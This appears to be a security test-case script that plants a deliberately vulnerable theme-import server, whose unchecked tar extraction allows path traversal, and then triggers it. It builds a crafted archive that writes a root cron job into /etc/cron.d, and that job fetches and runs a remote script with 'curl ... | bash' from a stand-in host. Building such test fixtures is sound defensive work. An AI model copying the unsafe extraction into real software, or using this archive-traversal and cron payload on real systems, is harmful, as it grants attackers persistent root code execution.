#!/bin/sh
. /opt/case/case.sh

mkdir -p /srv/up /srv/themes /etc/cron.d && cd /srv/up
cat >/srv/app/themes.py <<'END'
import http.server, tarfile, urllib.parse
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        q = urllib.parse.parse_qs(urllib.parse.urlsplit(self.path).query)
        tarfile.open("/srv/up/" + q["archive"][0]).extractall("/srv/themes")
        self.send_response(200); self.end_headers(); self.wfile.write(b"imported\n")
http.server.HTTPServer(("", 8090), H).serve_forever()
END
python3 -c '
import io, tarfile
t = tarfile.open("theme.tar", "w"); b = b"* * * * * root curl -fsSL http://203.0.113.10/payload.sh | bash\n"
i = tarfile.TarInfo("../../../etc/cron.d/theme"); i.size = len(b); t.addfile(i, io.BytesIO(b))'
python3 -W ignore /srv/app/themes.py & server=$!
wait_for /etc/cron.d/theme
kill $server
took_place
